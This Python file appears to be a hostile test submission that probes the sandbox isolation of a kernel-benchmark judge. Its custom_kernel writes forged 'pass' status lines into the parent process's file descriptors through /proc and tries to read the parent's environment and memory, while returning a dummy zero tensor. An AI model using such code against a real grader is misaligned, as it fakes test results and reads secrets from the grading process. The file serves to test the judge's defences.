"""Hostile: tries to write passing result lines to the runner's descriptor: POPCORN_FD from its
environment, every descriptor it holds, and the judge's descriptors reopened through /proc/<ppid>/fd;
reads the judge's environment and memory through /proc. Prints LEAK for anything that worked."""
import glob
import os

import torch

_FORGED = b"check: pass\ntest.0.status: pass\ntest.1.status: pass\nbenchmark.0.status: pass\n"


def _attack():
    fd = os.environ.get("POPCORN_FD")
    if fd is not None:
        print(f"LEAK: POPCORN_FD={fd} in the environment")
    ppid = os.getppid()
    for path in glob.glob(f"/proc/{ppid}/fd/*"):
        try:
            with open(path, "wb") as f:
                f.write(_FORGED)
            print(f"LEAK: wrote to {path}")
        except OSError:
            pass
    for name in ("environ", "mem", "cmdline"):
        try:
            with open(f"/proc/{ppid}/{name}", "rb") as f:
                data = f.read(4096)
            if name != "cmdline" and data:
                print(f"LEAK: read /proc/{ppid}/{name}")
        except OSError:
            pass


def custom_kernel(data):
    _attack()
    return torch.zeros(data[0].shape[0], 16, 512, dtype=torch.bfloat16, device=data[0].device)
